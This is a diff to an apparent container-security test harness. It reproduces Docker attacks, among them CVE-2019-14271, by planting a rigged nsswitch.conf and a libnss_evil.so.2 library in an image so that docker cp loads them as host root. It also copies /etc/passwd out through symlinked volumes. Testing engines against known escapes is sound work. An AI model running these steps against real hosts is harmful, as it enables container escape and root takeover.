@@ -49,10 +49,14 @@ const volumeBehindLink = async (scene: Scene, engine: Engine): Promise<Evidence>
   if (!live) return { code: 1, output: "" };
   await new Promise((end) => setTimeout(end, 200));
   if (engine.name === "naive") await link(host, `${rootfs}/data`);
-  const done = [
+  const copies = async (): Promise<(Evidence | undefined)[]> => [
     await live.copyIn?.(`${room}/own/file`, "/tmp/file"),
-    await live.copyOut?.("/etc/passwd", `${room}/own/out`),
+    await live.copyOut?.("/etc/passwd", `${room}/out`),
   ];
+  const done = await copies();
+  // One that has ended has no mounts any more: who copies makes them again.
+  await live.stop?.();
+  done.push(...await copies());
   const mounted = await mountsOf(host);
   return { code: 0, output: `tried ${mounted ? "MOUNTED" : ""} ${done.map((one) => one?.output).join()}` };
 };
@@ -95,9 +99,15 @@ export const COPYING: readonly Attack[] = [
   {
     id: "CVE-2019-14271",
     engine: "docker",
-    title: "cp executes programs, or loads libraries, of the image as root of the host",
+    title: "cp loads libraries (nsswitch.conf, libnss), or executes programs, of the image as root of the host",
     needs: ["copy"],
-    prepare: (scene) => plant(scene, HELPERS),
+    async prepare(scene, { nss }) {
+      await plant(scene, HELPERS);
+      await Deno.writeTextFile(`${scene.rootfs}/etc/nsswitch.conf`, "passwd: evil\ngroup: evil\nhosts: evil\n");
+      for (const folder of ["lib", "lib64", "lib/x86_64-linux-gnu", "lib/aarch64-linux-gnu", "usr/lib"]) {
+        await runHost(["install", "-D", nss, `${scene.rootfs}/${folder}/libnss_evil.so.2`]);
+      }
+    },
     attempt: (scene, engine) =>
       withLive(scene, engine, async (live) => {
         await live.copyOut?.("/etc/passwd", `${scene.room}/out`);
